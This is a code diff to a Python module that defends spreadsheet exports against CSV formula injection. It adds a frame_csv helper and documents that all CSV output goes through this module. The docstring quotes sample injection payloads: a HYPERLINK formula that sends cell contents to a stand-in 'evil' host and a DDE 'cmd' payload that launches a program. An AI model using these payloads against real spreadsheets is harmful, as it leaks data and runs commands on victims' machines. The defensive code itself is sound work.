@@ -1,7 +1,9 @@
 """CSV cells that are safe to open in a spreadsheet (no formula injection).
 
-Every CSV the platform writes passes its cells through :func:`safe_cell` (through
-:func:`safe_writer`, :func:`safe_rows` or :func:`safe_frame`), so a rationale
+This module is the platform's one CSV writer: every CSV it writes (web downloads, the API,
+management commands, benchmarks' outputs) is written through :func:`safe_writer`,
+:func:`safe_dict_writer` or :func:`frame_csv`, and ``tests/test_csv_writers.py`` fails on any
+``csv.writer`` / ``csv.DictWriter`` / ``DataFrame.to_csv`` outside this file. So a rationale
 ``=HYPERLINK("http://evil/?"&A1)``, an imported id ``=cmd|' /C calc'!A0`` or a source ``@SUM(…)``
 is shown by Excel / LibreOffice / Google Sheets as text instead of being evaluated.
 
@@ -136,6 +138,14 @@ def safe_writer(file, **kwargs) -> _SafeWriter:
 def safe_dict_writer(file, fieldnames: list[str], **kwargs) -> _SafeDictWriter:
     """``csv.DictWriter(file, fieldnames, **kwargs)`` whose cells are neutralised."""
     return _SafeDictWriter(csv.DictWriter(file, fieldnames=fieldnames, **kwargs))
+
+
+def frame_csv(df: pd.DataFrame, **kwargs: Any) -> str:
+    """``df.to_csv(index=False, **kwargs)`` of the neutralised frame, as text (floats keep
+    pandas' full, round-tripping precision unless ``float_format`` says otherwise)."""
+    kwargs.setdefault("index", False)
+    text: str = safe_frame(df).to_csv(**kwargs)
+    return text
 
 
 def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
